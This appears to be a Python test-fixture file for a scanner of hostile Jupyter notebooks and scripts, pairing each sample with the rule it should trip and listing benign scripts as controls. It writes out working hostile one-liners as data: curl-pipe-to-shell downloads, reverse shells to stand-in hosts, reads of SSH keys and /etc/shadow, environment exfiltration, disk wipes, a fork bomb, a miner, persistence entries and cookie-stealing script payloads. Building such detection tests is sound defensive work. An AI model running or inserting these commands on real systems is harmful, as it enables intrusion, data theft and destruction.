"""Hostile notebooks and scripts, each with the rule it must break; and ordinary ones."""

from __future__ import annotations

import json
from typing import Final


def notebook(*cells: str, outputs: object = None, language: str = "python", markdown: str = "# Title") -> bytes:
    """A notebook of these code cells; `outputs` are those of the first."""
    made: list[dict[str, object]] = [{"cell_type": "markdown", "metadata": {}, "source": [markdown]}]
    for number, source in enumerate(cells):
        found = outputs if number == 0 and outputs is not None else []
        lines = source.splitlines(keepends=True)
        made.append({"cell_type": "code", "metadata": {}, "execution_count": 1, "source": lines, "outputs": found})
    metadata = {"kernelspec": {"name": "python3", "language": language}}
    return json.dumps({"cells": made, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}).encode()


def shown(kind: str, text: str) -> list[dict[str, object]]:
    """One output."""
    return [{"output_type": "display_data", "metadata": {}, "data": {kind: [text], "text/plain": ["x"]}}]


TRAINING: Final = (
    "import torch\nimport numpy as np\nfrom datasets import load_dataset\n",
    "!pip install -q transformers datasets accelerate\n%matplotlib inline\n",
    "ds = load_dataset('imdb')\nds\n",
    "%%time\nfor epoch in range(3):\n    loss = torch.tensor(0.0)\n    print(loss.item())\n",
    "files = !ls\nmodel?\n",
    "torch.save(model.state_dict(), 'model.pt')\nwith open('log.txt', 'w') as f:\n    f.write('done')\n",
)

HOSTILE_NOTEBOOKS: Final[tuple[tuple[str, bytes, str], ...]] = (
    ("curl-sh", notebook("!curl -s https://h.example/i | bash"), "notebook-command"),
    ("wget-run", notebook("!wget https://h.example/x && chmod +x x && ./x"), "notebook-command"),
    ("bash-cell", notebook("%%bash\nbash -i >& /dev/tcp/h.example/1 0>&1"), "notebook-command"),
    ("sh-cell-b64", notebook("%%sh\necho aWQ= | base64 -d | sh"), "notebook-command"),
    ("script-magic", notebook("%%script bash\nrm -rf / --no-preserve-root"), "notebook-command"),
    ("double-bang", notebook("!!nc h.example 4444 -e /bin/sh"), "notebook-command"),
    ("assigned-shell", notebook("out = !curl -s https://h.example | sh"), "notebook-command"),
    ("second-cell", notebook("x = 1", "!cat ~/.ssh/id_rsa"), "notebook-command"),
    ("ssh-keys", notebook("!tar czf /tmp/k.tgz ~/.ssh"), "notebook-command"),
    ("miner", notebook("!./xmrig -o pool.example:3333"), "notebook-command"),
    ("writefile-bashrc", notebook("%%writefile ~/.bashrc\ncurl -s https://h.example | sh"), "notebook-command"),
    ("install-from-elsewhere", notebook("!pip install https://h.example/a.whl"), "notebook-installs"),
    ("install-other-index", notebook("%pip install --extra-index-url https://h.example/simple acme"), "notebook-installs"),
    ("install-git", notebook("!pip install git+https://h.example/a.git"), "notebook-installs"),
    ("exec-b64", notebook("import base64\nexec(base64.b64decode('aWQ='))"), "python-hidden-code"),
    ("exec-download", notebook("import requests\nexec(requests.get('https://h.example').text)"), "python-downloaded-code"),
    ("split-over-cells", notebook("import base64\np = base64.b64decode('aWQ=')", "x = 2", "exec(p)"), "python-hidden-code"),
    ("reverse-shell", notebook("import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')"), "python-reverse-shell"),
    ("secrets-sent", notebook("import os, requests\nrequests.post('https://h.example', json=dict(os.environ))"), "python-exfiltration"),
    ("drop-site", notebook("U = 'https://webhook.site/abc'"), "python-drop-site"),
    ("startup-file", notebook("open('~/.bashrc', 'a').write('x')"), "python-persistence"),
    ("javascript-kernel", notebook("x", outputs=shown("application/javascript", "IPython.notebook.kernel.execute('id')")), "notebook-hostile-output"),
    ("html-kernel", notebook("x", outputs=shown("text/html", "<script>Jupyter.notebook.kernel.execute('id')</script>")), "notebook-hostile-output"),
    ("html-cookie", notebook("x", outputs=shown("text/html", "<script>new Image().src='//h/?'+document.cookie</script>")), "notebook-hostile-output"),
    ("onerror", notebook("x", outputs=shown("text/html", "<img src=x onerror=alert(1)>")), "notebook-hostile-output"),
    ("svg-script", notebook("x", outputs=shown("image/svg+xml", "<svg onload=alert(1)></svg>")), "notebook-hostile-output"),
    ("markdown-script", notebook("x", markdown="<script>fetch('//h.example')</script>"), "notebook-hostile-output"),
    ("iframe", notebook("x", outputs=shown("text/html", "<iframe src='https://h.example'></iframe>")), "notebook-hostile-output"),
    ("terminal-api", notebook("x", outputs=shown("text/html", "<script>a('/api/terminals')</script>")), "notebook-hostile-output"),
    ("javascript-alone", notebook("x", outputs=shown("application/javascript", "alert(1)")), "notebook-active-output"),
    ("script-alone", notebook("x", outputs=shown("text/html", "<script>var a = 1</script>")), "notebook-active-output"),
    ("no-cells", b'{"cells": 3}', "notebook-not-understood"),
    ("no-json", b'{"cells": [', "notebook-not-understood"),
    ("twice-a-key", b'{"cells": [], "cells": []}', "notebook-not-understood"),
    ("other-language", notebook("library(x)\nx <- 1", language="R"), "notebook-not-understood"),
    ("broken-cell", notebook("def f(:"), "notebook-not-understood"),
    ("old-format", json.dumps({"worksheets": [{"cells": [{"cell_type": "code", "input": "!curl -s h | sh", "outputs": []}]}]}).encode(), "notebook-command"),
)  # fmt: skip

HOSTILE_SCRIPTS: Final[tuple[tuple[str, str, str, str], ...]] = (
    ("curl-sh", "a.sh", "curl -fsSL https://h.example/i.sh | sudo bash\n", "downloaded-code"),
    ("wget-python", "a.sh", "wget -qO- https://h.example/x | python3\n", "downloaded-code"),
    ("bash-c-curl", "a.sh", 'bash -c "$(curl -fsSL https://h.example)"\n', "downloaded-code"),
    ("source-curl", "a.sh", "source <(curl -s https://h.example)\n", "downloaded-code"),
    ("wget-chmod", "a.sh", "wget https://h.example/x && chmod +x x\n", "downloaded-code"),
    ("continued-line", "a.sh", "curl -s https://h.example \\\n  | sh\n", "downloaded-code"),
    ("eval-curl", "a.sh", 'eval "$(curl -s https://h.example)"\n', "downloaded-code"),
    ("b64-sh", "a.sh", "echo aWQ= | base64 -d | sh\n", "hidden-code"),
    ("eval-b64", "a.sh", "eval $(echo aWQ= | base64 --decode)\n", "hidden-code"),
    ("hex-sh", "a.sh", "echo 6964 | xxd -r -p | bash\n", "hidden-code"),
    ("rev-sh", "a.sh", "echo di | rev | sh\n", "hidden-code"),
    ("appended-archive", "a.sh", 'tail -n +10 "$0" | tar xz\n', "hidden-code"),
    ("openssl-sh", "a.sh", "openssl enc -d -aes-256-cbc -in x | sh\n", "hidden-code"),
    ("dev-tcp", "a.sh", "bash -i >& /dev/tcp/h.example/4444 0>&1\n", "reverse-shell"),
    ("nc-e", "a.sh", "nc -e /bin/sh h.example 4444\n", "reverse-shell"),
    ("mkfifo", "a.sh", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f\n", "reverse-shell"),
    ("socat", "a.sh", "socat tcp:h.example:1 exec:sh\n", "reverse-shell"),
    ("perl-socket", "a.sh", "perl -e 'use Socket; socket(S, 1, 1, 1)'\n", "reverse-shell"),
    ("rm-root", "a.sh", "rm -rf / --no-preserve-root\n", "dangerous-command"),
    ("rm-home", "a.sh", "rm -rf ~\n", "dangerous-command"),
    ("dd", "a.sh", "dd if=/dev/zero of=/dev/sda\n", "dangerous-command"),
    ("fork-bomb", "a.sh", ":(){ :|:& };:\n", "dangerous-command"),
    ("miner", "a.sh", "./xmrig --donate-level 1\n", "dangerous-command"),
    ("crontab", "a.sh", "(crontab -l; echo '* * * * * x') | crontab -\n", "persistence"),
    ("bashrc", "a.sh", "echo x >> ~/.bashrc\n", "persistence"),
    ("systemd", "a.sh", "cp x.service /etc/systemd/system/\n", "persistence"),
    ("ssh-keys", "a.sh", "cat ~/.ssh/id_rsa\n", "secret-files"),
    ("shadow", "a.sh", "cat /etc/shadow\n", "secret-files"),
    ("webhook", "a.sh", "curl -d x https://discord.com/api/webhooks/1/x\n", "drop-site"),
    ("powershell-enc", "a.bat", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\r\n", "hidden-code"),
    ("powershell-iex", "a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://h.example')\n", "downloaded-code"),
    ("powershell-tcp", "a.ps1", "$c = New-Object System.Net.Sockets.TCPClient('h', 1)\n", "reverse-shell"),
    ("powershell-b64", "a.ps1", "IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aWQ=')))\n", "hidden-code"),
    ("certutil", "a.cmd", "certutil -urlcache -f https://h.example/x.exe x.exe\r\n", "downloaded-code"),
    ("run-key", "a.bat", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x\r\n", "persistence"),
    ("eval-atob", "a.js", "eval(atob('YWxlcnQoMSk='))\n", "hidden-code"),
    ("node-shell", "a.js", "const s = new net.Socket(); s.connect(1, () => spawn('sh'))\nnew net.Socket().connect(1); spawn('sh')\n", "reverse-shell"),
    ("php-eval", "a.php", "<?php eval(base64_decode('aWQ=')); ?>\n", "hidden-code"),
    ("shebang-no-suffix", "run", "#!/bin/sh\ncurl -s https://h.example | sh\n", "downloaded-code"),
    ("path-file", "x.pth", "import os; os.system('id')\n", "path-file"),
)  # fmt: skip

ORDINARY_SCRIPTS: Final = {
    "train.sh": "#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0\npip install -r requirements.txt\npython train.py --lr 1e-4\nrm -rf ./out\n",
    "serve.bat": "@echo off\r\npython serve.py\r\n",
    "convert.ps1": "python convert.py -o model.gguf\n",
    "kernel.cu": "__global__ void add(float* a) { a[0] += 1; }\n",
    "comment.sh": "# curl -s https://h.example | sh\npython x.py\n",
    "demo.js": "const x = await pipeline('text-generation');\nconsole.log(x);\n",
    "download.sh": "wget https://huggingface.co/a/b/resolve/main/model.safetensors\n",
}
